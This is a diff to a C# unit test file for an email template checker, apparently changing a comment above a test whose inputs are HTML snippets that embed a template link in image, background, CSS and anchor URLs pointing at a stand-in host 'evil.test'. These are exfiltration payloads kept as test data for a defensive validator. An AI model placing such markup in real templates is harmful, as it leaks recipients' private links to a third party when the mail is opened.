@@ -121,7 +121,7 @@ public sealed class TemplateCheckTests
         Assert.All(faults, fault => Assert.IsType<TemplateFault.ActiveContent>(fault));
     }
 
-    /// <summary>Red while only active content was looked for: each of these saved, and the first sent the live link with the mail's opening.</summary>
+    /// <summary>The first would send the live link with the mail's opening.</summary>
     [Theory]
     [InlineData("<img src=\"https://evil.test/?{{ link }}\">"), InlineData("<img src=\"{{ link }}\">"), InlineData("<table background='https://evil.test/?{{ link }}'>"), InlineData("<p style=\"background: url(https://evil.test/?{{ link }})\">x")]
     [InlineData("<style>p { background: url(https://evil.test/?{{ link }}) }</style>"), InlineData("<a href=\"https://evil.test/?{{ link }}\">x</a>"), InlineData("<a href=\"{{ link }}?x=1\">x</a>")]
